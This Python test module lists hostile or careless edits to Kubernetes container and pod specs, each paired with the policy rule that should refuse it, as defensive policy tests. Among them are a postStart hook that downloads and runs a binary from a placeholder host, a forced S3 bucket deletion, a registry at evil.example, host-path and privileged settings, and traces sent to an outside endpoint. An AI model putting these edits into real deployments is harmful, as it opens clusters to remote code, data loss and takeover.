"""Careless or hostile edits of containers and pods, each with the rules of which one must refuse
it.
"""

from __future__ import annotations

from collections.abc import Callable

from inferplan.policies.rules.accelerators import SHARED_MEMORY
from tests.policies.edits import (
    Inputs,
    Mutation,
    accelerated,
    accelerates,
    add,
    argument,
    both_sides,
    drop,
    image_of,
    limit,
    put,
    served_by_vllm,
    server,
    tag,
)

SCRATCH = "/tmp"  # noqa: S108 - a path inside of containers


def _as_root(edit: Callable[[Inputs], bool | None]) -> Callable[[Inputs], bool | None]:
    """`edit`, except for device plugins, which run as root in their vendors' manifests."""
    return lambda part: False if "device-plugin" in str(part) else edit(part)


def _big_memory(pod: Inputs) -> bool:
    """A memory-backed volume that no container can fill."""
    volumes = [
        each
        for each in pod.get("volumes") or []
        if each.get("emptyDir", {}).get("medium") == "Memory"
    ]
    for each in volumes:
        each["emptyDir"]["sizeLimit"] = "4Ti"
    return bool(volumes)


def _without_shared_memory(container: Inputs) -> bool:
    """Several ranks with the 64 MiB that a container has by default."""
    counts = (container.get("resources") or {}).get("limits", {})
    mounts = container.get("volumeMounts") or []
    kept = [each for each in mounts if each["mountPath"] != SHARED_MEMORY[0]]
    container["volumeMounts"] = kept
    return len(kept) < len(mounts) and any(
        int(count) > 1 for name, count in counts.items() if name.endswith(("/gpu", "/gaudi"))
    )


def _without_cpu(container: Inputs) -> bool:
    """Kubernetes would take the limit for the request, so both go."""
    drop("resources", "limits", "cpu")(container)
    return drop("resources", "requests", "cpu")(container)


def _open_triton(container: Inputs) -> bool | None:
    """A server that loads what it is told to, for whoever tells it."""
    words = [*(container.get("command") or []), *(container.get("args") or [])]
    if "tritonserver" not in words:
        return False
    kept = [
        word
        for word in words
        if not word.startswith(("--model-control-mode", "--http-restricted", "--grpc-restricted"))
    ]
    container["command"], container["args"] = [], [*kept, "--model-control-mode=explicit"]
    return None


def _writable_root(container: Inputs) -> bool:
    """A root that was read-only before."""
    return container.get("securityContext", {}).pop("readOnlyRootFilesystem", None) is True


def _read_only_scratch(container: Inputs) -> bool:
    """A server that may write nowhere any more."""
    if container.get("name") not in ("nginx", "preheat"):
        return False
    mounts = [mount for mount in container.get("volumeMounts", []) if mount["mountPath"] == SCRATCH]
    for mount in mounts:
        mount["readOnly"] = True
    return bool(mounts)


def _without_key(container: Inputs) -> bool | None:
    """A server that answers whoever asks."""
    kept = [each for each in container.get("env") or [] if each["name"] != "VLLM_API_KEY"]
    if len(kept) == len(container.get("env") or []) or not container.get("ports"):
        return False
    container["env"] = kept
    return None


CONTAINERS = (
    Mutation(
        "one late answer kills",
        ("pod-restrict-probe-timing",),
        server(put(1, "livenessProbe", "failureThreshold")),
    ),
    Mutation(
        "no certificate verified",
        ("pod-require-verified-tls",),
        add({"name": "PYTHONHTTPSVERIFY", "value": "0"}, "env"),
    ),
    Mutation(
        "a program from the network",
        ("pod-disallow-piped-programs",),
        put(
            ["sh", "-c", "wget -qO /tmp/x https://x.example/i && chmod +x /tmp/x && /tmp/x"],
            "lifecycle",
            "postStart",
            "exec",
            "command",
        ),
    ),
    Mutation(
        "a bucket is deleted",
        ("pod-restrict-data-commands",),
        put(
            ["sh", "-c", "aws s3 rb s3://weights --force"],
            "lifecycle",
            "postStart",
            "exec",
            "command",
        ),
    ),
    Mutation("insecure option", ("pod-require-verified-tls",), argument("--no-verify-ssl")),
    Mutation(
        "traces to strangers",
        ("stack-restrict-outside-hosts",),
        add(
            {
                "name": "OTEL_EXPORTER_OTLP_ENDPOINT",
                "value": "https://traces.stranger.test.example.net",
            },
            "env",
        ),
    ),
    Mutation("no key of the server", ("model-require-server-key",), _without_key),
    Mutation(
        "privileged", ("pod-disallow-privileged",), put(True, "securityContext", "privileged")
    ),
    Mutation(
        "escalation",
        ("pod-disallow-privilege-escalation",),
        put(True, "securityContext", "allowPrivilegeEscalation"),
    ),
    Mutation(
        "escalation unsaid",
        ("pod-disallow-privilege-escalation",),
        drop("securityContext", "allowPrivilegeEscalation"),
    ),
    Mutation(
        "capabilities kept",
        ("pod-require-drop-all-capabilities",),
        drop("securityContext", "capabilities"),
    ),
    Mutation(
        "SYS_NICE",
        ("pod-disallow-added-capabilities",),
        put(["SYS_NICE"], "securityContext", "capabilities", "add"),
    ),
    Mutation(
        "root user", ("pod-require-non-root",), _as_root(put(0, "securityContext", "runAsUser"))
    ),
    Mutation(
        "root allowed",
        ("pod-require-non-root",),
        _as_root(put(False, "securityContext", "runAsNonRoot")),
    ),
    Mutation(
        "seccomp off",
        ("pod-require-seccomp",),
        put("Unconfined", "securityContext", "seccompProfile", "type"),
    ),
    Mutation(
        "unmasked proc",
        ("pod-disallow-unmasked-proc",),
        put("Unmasked", "securityContext", "procMount"),
    ),
    Mutation(
        "AppArmor off",
        ("pod-restrict-security-profiles",),
        put("Unconfined", "securityContext", "appArmorProfile", "type"),
    ),
    Mutation(
        "entrypoint of the image", ("image-require-command",), served_by_vllm(drop("command"))
    ),
    Mutation(
        "program of another image",
        ("image-require-command",),
        served_by_vllm(put(["tritonserver"], "command")),
    ),
    Mutation("read-only scratch", ("image-require-writable-paths",), _read_only_scratch),
    Mutation("writable root", ("pod-require-read-only-root",), _writable_root),
    Mutation(
        "no security context", ("pod-disallow-privilege-escalation",), drop("securityContext")
    ),
    Mutation(
        "no memory limit", ("pod-require-memory-limit",), drop("resources", "limits", "memory")
    ),
    Mutation("no CPU request", ("pod-require-cpu-request",), _without_cpu),
    Mutation("no resources", ("pod-require-memory-limit",), drop("resources")),
    Mutation(
        "literal key",
        ("pod-disallow-literal-secrets",),
        add({"name": "OPENAI_API_KEY", "value": "0123456789"}, "env"),
    ),
    Mutation(
        "literal token",
        ("pod-disallow-literal-secrets",),
        add({"name": "HF_TOKEN", "value": "0123456789"}, "env"),
    ),
    Mutation(
        "visible devices",
        ("accelerator-disallow-visible-devices",),
        add({"name": "HABANA_VISIBLE_DEVICES", "value": "all"}, "env"),
    ),
    Mutation(
        "tag latest",
        ("image-disallow-latest",),
        tag(lambda image: image.partition("@")[0].rpartition(":")[0] + ":latest"),
    ),
    Mutation(
        "no tag",
        ("image-disallow-latest",),
        tag(lambda image: image.partition("@")[0].rpartition(":")[0]),
    ),
    Mutation(
        "strange registry",
        ("image-restrict-registries",),
        tag(lambda image: f"registry.evil.example/{image.partition('/')[2]}"),
    ),
    Mutation(
        "host port",
        ("pod-disallow-host-ports",),
        server(lambda container: container["ports"][0].update(hostPort=8000)),
    ),
    Mutation("no readiness", ("pod-require-readiness-probe",), server(drop("readinessProbe"))),
    Mutation("no liveness", ("pod-require-liveness-probe",), server(drop("livenessProbe"))),
    Mutation(
        "probe of another host",
        ("pod-disallow-probe-hosts",),
        server(put("203.0.113.7", "livenessProbe", "httpGet", "host")),
    ),
    Mutation("no startup", ("pod-require-startup-probe",), server(drop("startupProbe"))),
    Mutation(
        "hasty startup",
        ("pod-require-startup-budget",),
        accelerated(
            lambda container, _: (
                "startupProbe" in container
                and container["startupProbe"].update(periodSeconds=10, failureThreshold=30)
            )
        ),
    ),
    Mutation(
        "long preStop",
        ("pod-require-drain-time",),
        server(put({"preStop": {"sleep": {"seconds": 3600}}}, "lifecycle")),
    ),
    Mutation(
        "development",
        ("model-disallow-development-switches",),
        served_by_vllm(add({"name": "VLLM_SERVER_DEV_MODE", "value": "1"}, "env")),
    ),
    Mutation(
        "files for prompts",
        ("model-disallow-development-switches",),
        argument("--allowed-local-media-path=/"),
    ),
    Mutation(
        "prompts in the log", ("model-disallow-request-logging",), argument("--enable-log-requests")
    ),
    Mutation("models on demand", ("model-restrict-triton-repository",), _open_triton),
    Mutation("remote code", ("model-disallow-trust-remote-code",), argument("--trust-remote-code")),
    Mutation("pickles", ("model-disallow-pickle",), argument("--load-format=pt")),
    Mutation("key argument", ("pod-disallow-literal-secrets",), argument("--api-key=0123456789")),
    Mutation(
        "too parallel",
        ("accelerator-require-tensor-parallel-fit",),
        argument("--tensor-parallel-size=16"),
    ),
    Mutation(
        "ranks without shared memory",
        ("accelerator-require-shared-memory",),
        served_by_vllm(_without_shared_memory),
    ),
    Mutation("half a card", ("accelerator-require-integer",), limit("500m")),
    Mutation("half a card more", ("accelerator-require-integer",), both_sides("1500m")),
    Mutation("limit unlike request", ("accelerator-require-request-equals-limit",), limit("7")),
    Mutation(
        "other vendor",
        ("accelerator-require-vendor-image",),
        accelerated(
            lambda container, name: container.update(
                image="docker.io/vllm/vllm-openai:v0.33.0"
                if "habana" in name
                else "vault.habana.ai/vllm:v0.26.0"
            )
        ),
    ),
    Mutation(
        "old vLLM",
        ("model-require-vllm-floor",),
        served_by_vllm(
            lambda container: container.update(image="docker.io/vllm/vllm-openai:v0.19.1")
        ),
    ),
    Mutation("no digest", ("image-require-digest",), tag(lambda image: image.partition("@")[0])),
    Mutation(
        "old Triton",
        ("model-require-triton-floor",),
        image_of("tritonserver", "nvcr.io/nvidia/tritonserver:25.12-py3"),
    ),
    Mutation(
        "old Ray",
        ("ray-require-floor",),
        image_of("rayproject/", "docker.io/rayproject/ray:2.51.2-py312"),
    ),
    Mutation(
        "old Python",
        ("image-require-floor",),
        image_of("library/python", "docker.io/library/python:3.13.7-slim-trixie"),
    ),
    Mutation(
        "hub model",
        ("model-require-revision",),
        served_by_vllm(
            lambda container: container["args"].__setitem__(0, "meta-llama/Llama-3.1-8B")
        ),
    ),
    Mutation(
        "no huge pages", ("gaudi-require-huge-pages",), drop("resources", "limits", "hugepages-2Mi")
    ),
)

PODS = (
    Mutation(
        "group of root", ("pod-require-non-root",), _as_root(put(0, "securityContext", "fsGroup"))
    ),
    Mutation("memory volume above the limit", ("pod-limit-memory-volumes",), _big_memory),
    Mutation("a node by its name", ("pod-restrict-reach",), put("n1", "nodeName")),
    Mutation(
        "other name servers",
        ("pod-restrict-reach",),
        put({"nameservers": ["192.0.2.53"]}, "dnsConfig"),
    ),
    Mutation(
        "keys of consumers",
        ("stack-restrict-gateway-keys",),
        lambda pod: (
            accelerates(pod)
            and add({"name": "keys", "secret": {"secretName": "gateway-keys"}}, "volumes")(pod)
            is None
        ),
    ),
    Mutation("host network", ("pod-disallow-host-namespaces",), put(True, "hostNetwork")),
    Mutation("host IPC", ("pod-disallow-host-namespaces",), put(True, "hostIPC")),
    Mutation("host PID", ("pod-disallow-host-namespaces",), put(True, "hostPID")),
    Mutation(
        "host path",
        ("pod-disallow-host-path",),
        add({"name": "node", "hostPath": {"path": "/"}}, "volumes"),
    ),
    Mutation(
        "inline NFS",
        ("pod-restrict-volume-types",),
        add({"name": "share", "nfs": {"server": "s", "path": "/"}}, "volumes"),
    ),
    Mutation(
        "endless emptyDir",
        ("pod-require-empty-dir-limit",),
        add({"name": "scratch2", "emptyDir": {}}, "volumes"),
    ),
    Mutation("service links", ("pod-disallow-service-links",), drop("enableServiceLinks")),
    Mutation("token", ("pod-disallow-token-mount",), put(True, "automountServiceAccountToken")),
    Mutation(
        "sysctl",
        ("pod-disallow-unsafe-sysctls",),
        put([{"name": "kernel.msgmax", "value": "1"}], "securityContext", "sysctls"),
    ),
    Mutation(
        "root pod", ("pod-require-non-root",), _as_root(put(0, "securityContext", "runAsUser"))
    ),
    Mutation("no seccomp", ("pod-require-seccomp",), drop("securityContext", "seccompProfile")),
    Mutation(
        "no pool",
        ("accelerator-require-pool",),
        lambda pod: accelerates(pod) and drop("nodeSelector")(pod),
    ),
    Mutation(
        "no toleration",
        ("accelerator-require-toleration",),
        lambda pod: accelerates(pod) and drop("tolerations")(pod),
    ),
    Mutation("no runtime class", ("gaudi-require-runtime-class",), drop("runtimeClassName")),
)
